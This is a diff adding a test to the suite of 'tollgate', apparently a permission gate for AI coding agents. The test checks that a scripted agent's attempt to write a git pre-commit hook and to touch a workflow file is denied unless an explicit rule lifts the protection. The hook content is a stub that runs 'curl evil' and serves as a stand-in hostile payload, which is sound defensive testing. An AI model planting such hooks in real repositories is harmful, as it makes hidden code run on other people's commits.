@@ -121,6 +121,39 @@ describe('tollgate run', () => {
     expect(comment).not.toMatch(/<code>node --test<\/code>[^\n]*destructive/);
   });
 
+  it('names the rule that would lift a protected path for the file tools, and that rule lifts it; a command gets none', async () => {
+    const policyFile = join(repo(), '.github', 'tollgate.yml');
+    const calls = () => [
+      reply(
+        toolUse('Write', { file_path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil\n' }, 'toolu_hook'),
+        toolUse('Bash', { command: 'touch .github/workflows/x.yml' }, 'toolu_touch'),
+      ),
+      endTurn('Tried.'),
+    ];
+    mkdirSync(join(repo(), '.git', 'hooks'), { recursive: true });
+    writeFileSync(policyFile, 'version: 1\npermissions:\n  defaultMode: acceptEdits\n  allow: ["Write", "Bash(touch:*)"]\n');
+    api = await startFakeMessagesApi({ script: calls() });
+    const denied = await runCli(['run', '--prompt', 'plant', '--cwd', repo(), '--out', out()], { cwd: dir, env: apiEnv() });
+    expect(denied.code, denied.stderr).toBe(0);
+    expect(existsSync(join(repo(), '.git', 'hooks', 'pre-commit'))).toBe(false);
+    const result = JSON.parse(readFileSync(join(out(), 'result.json'), 'utf8'));
+    const byId = new Map(result.tool_calls.map((c: { tool_use_id: string }) => [c.tool_use_id, c]));
+    expect(byId.get('toolu_hook')).toMatchObject({ decision: 'deny', unpermittable: 'a protected path (git hooks)', lifting_rule: 'Edit(.git/hooks/pre-commit)' });
+    expect(byId.get('toolu_touch')).toMatchObject({ decision: 'deny', lifting_rule: null });
+    const comment = readFileSync(join(out(), 'comment.md'), 'utf8');
+    expect(comment).toContain('denied, a protected path (git hooks), lifted only by a rule that names it: <code>Edit(.git/hooks/pre-commit)</code>');
+    expect(comment).toContain('denied, nothing can permit this: a protected path (GitHub Actions workflows)');
+    await api.close();
+
+    writeFileSync(policyFile, 'version: 1\npermissions:\n  defaultMode: acceptEdits\n  allow: ["Write", "Bash(touch:*)", "Edit(.git/hooks/pre-commit)"]\n');
+    api = await startFakeMessagesApi({ script: calls() });
+    const lifted = await runCli(['run', '--prompt', 'plant', '--cwd', repo(), '--out', join(dir, 'out2')], { cwd: dir, env: apiEnv() });
+    expect(lifted.code, lifted.stderr).toBe(0);
+    expect(readFileSync(join(repo(), '.git', 'hooks', 'pre-commit'), 'utf8')).toContain('curl evil');
+    const again = JSON.parse(readFileSync(join(dir, 'out2', 'result.json'), 'utf8'));
+    expect(again.tool_calls.find((c: { tool_use_id: string }) => c.tool_use_id === 'toolu_hook')).toMatchObject({ decision: 'allow', lifted_protection: 'git hooks' });
+  });
+
   it('exits 1 when the session ends for any reason but success', async () => {
     api = await startFakeMessagesApi({ script: () => reply(toolUse('Glob', { pattern: '**/*.js' })) });
     const run = await runCli(['run', '--prompt', 'loop', '--cwd', repo(), '--out', out(), '--max-turns', '2'], { cwd: dir, env: apiEnv() });
